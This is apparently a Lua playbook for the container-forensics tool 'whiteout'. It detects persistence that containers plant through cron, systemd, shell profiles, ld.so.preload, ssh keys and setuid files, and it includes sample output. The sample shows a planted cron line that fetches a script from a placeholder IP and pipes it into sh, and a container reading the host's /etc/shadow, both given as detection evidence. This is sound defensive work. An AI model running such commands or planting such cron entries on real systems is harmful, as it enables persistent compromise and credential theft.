-- Playbook: persistence planted by containers, in their own layers and on
-- the host through their binds.
local findings = require "whiteout.findings"
local report = require "whiteout.report"


local function run(ev, args, emit)
  local slack = math.floor((tonumber(args.slack) or 1) * 1e9)
  for _, e in ipairs(findings.containers(ev)) do
    if findings.picked(e.c, args.container) then
      local list = {}
      for _, r in ipairs(findings.persistence(e.root, e.c, slack)) do
        if not (r.where == "host" and args.host == "lifetime"
                and not r.in_lifetime) then
          list[#list + 1] = r
        end
      end
      local rec = #list > 0 and findings.reach_record(e.root, e.c)
      if rec then emit(rec) end
      for _, r in ipairs(report.order_writes(list)) do emit(r) end
    end
  end
end


return {
  description = [[
Lists what containers planted to survive a restart or to come back:
cron tables and jobs, systemd units and timers, shell profiles
(/etc/profile, profile.d, .bashrc, ...), rc.local and init scripts,
/etc/ld.so.preload, ssh authorized_keys and sshd configuration, and new
setuid or setgid files. Looks in each container's own rw layer (files it
added or changed, where "layer"; whiteouts, where "deleted") and, when
the evidence holds the host's file system, in those places on the host
under each bind (where "host", with host_path and the path the container
used, in_lifetime when a time falls inside the container's life). Records
of kind "persistence" with `what` (cron, timer, systemd, profile, rc,
preload, ssh, ssh-copy, setuid) and `severity`, and a "reach" record for
each container that could reach the host and has findings. A copy of an
authorized_keys file (authorized_keys.bak, authorized_keys~) is
"ssh-copy" at severity "low": sshd reads only the files
AuthorizedKeysFile names, so it grants nothing by itself, but it shows
someone handled the keys; triage leaves it out of its headlines.]],
  categories = { "safe", "investigation" },
  args = {
    { name = "container", help = "only this container (id, prefix or name)" },
    { name = "host", default = "all", choices = { "all", "lifetime" },
      help = "host files under a bind: all of them, each flagged "
        .. "in_lifetime (LIFE yes) when changed while the container "
        .. "lived, or only those (as root-mounts-cron)" },
    { name = "slack", type = "number", default = "1",
      help = "seconds added on each side of a container's life" },
  },
  usage = [[
whiteout run persistence -e /mnt/host
whiteout run persistence -e /mnt/host --arg host=lifetime --format jsonl]],
  sample = report.unwrap [[
$ whiteout run persistence -e build/sample-host
intruder (55819102b216) exited, created 2026-12-01 09:14:05.123Z
  reach: binds the host's / at /host (read-write); privileged; adds capability \
SYS_ADMIN
  command: sh -c 'echo planted > /host/etc/cron.d/sample'
  WHERE  WHAT  PATH                     FROM                INUM     SIZE  TIME\
                      LIFE  SHA256
  host   cron  /host/etc/cron.d/sample  /etc/cron.d/sample  5318298  8     2026\
-12-01 09:14:09.700Z  yes   60f97c7b5bf55c5f
  host   cron  /host/etc/crontab        /etc/crontab        5318297  65    2026\
-11-20 08:00:00.000Z  no    1873427947ceb99a
  layer  cron  /etc/crontabs/root       73f5bdf65a49        5318156  53    2026\
-12-01 09:14:09.000Z  yes   fe249d9366ad2fd1
  --- /host/etc/cron.d/sample  sha256 60f97c7b5bf55c5f186c5d1c79c8e3b6929c83bf2\
766434df9f1e1b9069db73a
    planted
  --- /host/etc/crontab  sha256 1873427947ceb99a9821bbf415a7a8ac8f65667f155e579\
0e92bb77e8533ef77
    SHELL=/bin/sh
    17 * * * * root cd / && run-parts /etc/cron.hourly
  --- /etc/crontabs/root  sha256 fe249d9366ad2fd17469ddfdb580e5e84ffb5cf564f777\
f29157da31fc018df7
    */5 * * * * wget -q -O- http://203.0.113.7/x.sh | sh

etc-reader (736ed6a1b647) exited, created 2026-12-01 09:13:00.000Z
  reach: binds host /etc at /host-etc (read-only), reaching /etc/crontab /etc/a\
nacrontab /etc/cron.d and 7 more cron places
  command: cat /host-etc/shadow
  WHERE  WHAT  PATH                     FROM                INUM     SIZE  TIME\
                      LIFE  SHA256
  host   cron  /host-etc/cron.d/sample  /etc/cron.d/sample  5318298  8     2026\
-12-01 09:14:09.700Z  no    60f97c7b5bf55c5f
  host   cron  /host-etc/crontab        /etc/crontab        5318297  65    2026\
-11-20 08:00:00.000Z  no    1873427947ceb99a
  --- /host-etc/cron.d/sample  sha256 60f97c7b5bf55c5f186c5d1c79c8e3b6929c83bf2\
766434df9f1e1b9069db73a
    planted
  --- /host-etc/crontab  sha256 1873427947ceb99a9821bbf415a7a8ac8f65667f155e579\
0e92bb77e8533ef77
    SHELL=/bin/sh
    17 * * * * root cd / && run-parts /etc/cron.hourly

cron-only (dfca8be5c60b)
  reach: none (listed for its own layer or logs)
  WHERE  WHAT  PATH                FROM          INUM     SIZE  TIME           \
           LIFE  SHA256
  layer  cron  /etc/cron.d/backup  e3b20575a687  5318238  37    2026-12-01 09:0\
8:00.500Z  yes   40bc0ce5f73f1f85
  --- /etc/cron.d/backup  sha256 40bc0ce5f73f1f85e17cf4234671834c0e18ca12360adf\
61cddec140b9274b9e
    0 * * * * root /usr/local/bin/backup
]],
  applies = function(ev) return #ev.roots > 0 end,
  run = run,
  text = function(recs, write) report.cron_text(recs, write, "what") end,
}
